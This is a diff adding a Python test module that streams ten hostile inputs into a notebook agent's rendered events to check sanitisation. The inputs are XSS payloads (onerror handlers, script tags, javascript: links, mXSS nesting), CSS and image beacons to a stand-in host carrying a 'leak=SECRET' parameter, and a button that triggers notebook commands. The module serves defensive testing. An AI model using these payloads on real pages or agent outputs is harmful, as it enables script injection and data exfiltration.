@@ -1,0 +1,82 @@
+"""Sources the browser-test notebooks stream; importable in the test kernels.
+
+``tests/browser/lab.py`` puts this folder on the kernels' PYTHONPATH, so a notebook
+cell can ``import nbtest_sources``.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Iterator
+
+from nbagent import (
+    Event,
+    RunStart,
+    TextDelta,
+    ThinkingDelta,
+    ToolCallArgsDelta,
+    ToolCallEnd,
+    ToolCallStart,
+    ToolResult,
+)
+
+# rendering.md §5: the ten hostile inputs, verbatim.
+HOSTILE = [
+    'Hello <img src=x onerror="window.__pwned=1"> world',
+    "<script>window.__pwned=1</script>\n\nafter",
+    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x09;script:alert(1)) "
+    "<javascript:alert(1)> [e](data:text/html;base64,PHNjcmlwdD4=) [f](vbscript:x)",
+    "See [docs][x].\n\n[x]: javascript:window.__pwned=1",
+    '![chart](https://beacon.test/p.png?leak=SECRET) <img src="https://beacon.test/r.png">',
+    '<div style="background:url(https://beacon.test/c)">x</div>\n\n'
+    "<style>@import url(https://beacon.test/i.css);</style>",
+    '<button data-commandlinker-command="notebook:run-all-cells">Continue</button>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
+    '<a href="https://ok.test" title="\n\n" onmouseover="window.__pwned=1">hover</a>',
+    "Intro **bold and `code\n\n| a | b |\n|---|\n\n[link](javascript:alert(1)\n\n$$\n\\frac{1}{\n\n"
+    "```python\nprint('<img src=x onerror=alert(1)>')\n# **not bold**",
+]
+
+
+def sliced(text: str, size: int = 3, delay: float = 0.01) -> Iterator[str]:
+    """``text`` a few characters at a time (text deltas), with short sleeps."""
+    for i in range(0, len(text), size):
+        yield text[i : i + size]
+        time.sleep(delay)
+
+
+def words(n: int, delay: float) -> Iterator[str]:
+    """``w0 w1 … w{n-1}`` one word per delta, ``delay`` seconds apart."""
+    for i in range(n):
+        yield f"w{i} "
+        time.sleep(delay)
+
+
+def words_text(n: int) -> str:
+    return "".join(f"w{i} " for i in range(n))
+
+
+class HostileError(RuntimeError):
+    """Raised by ``hostile_events`` at the end: its message is hostile too."""
+
+
+def hostile_events(size: int = 3, delay: float = 0.01) -> Iterator[Event]:
+    """Hostile strings in the non-markdown places: title, thinking, tool name, arguments,
+    tool result, tool error, and the message of the exception that ends the run."""
+    yield RunStart(model=HOSTILE[0], title=HOSTILE[8])
+    for piece in sliced(HOSTILE[7], size, delay):
+        yield ThinkingDelta(message_id="think", delta=piece)
+    yield ToolCallStart(tool_call_id="call_1", name=HOSTILE[0])
+    yield ToolCallStart(tool_call_id="call_2", name=HOSTILE[6])
+    for piece in sliced(HOSTILE[4], size, delay):
+        yield ToolCallArgsDelta(tool_call_id="call_1", delta=piece)
+    for piece in sliced(json.dumps({"q": HOSTILE[5]}), size, delay):
+        yield ToolCallArgsDelta(tool_call_id="call_2", delta=piece)
+    yield ToolCallEnd(tool_call_id="call_1")
+    yield ToolCallEnd(tool_call_id="call_2")
+    yield ToolResult(tool_call_id="call_1", content=HOSTILE[7], is_error=True)
+    yield ToolResult(tool_call_id="call_2", content={"html": HOSTILE[0], "md": HOSTILE[4]})
+    for piece in sliced(HOSTILE[9], size, delay):
+        yield TextDelta(message_id="answer", delta=piece)
+    raise HostileError(HOSTILE[0] + " " + HOSTILE[8])
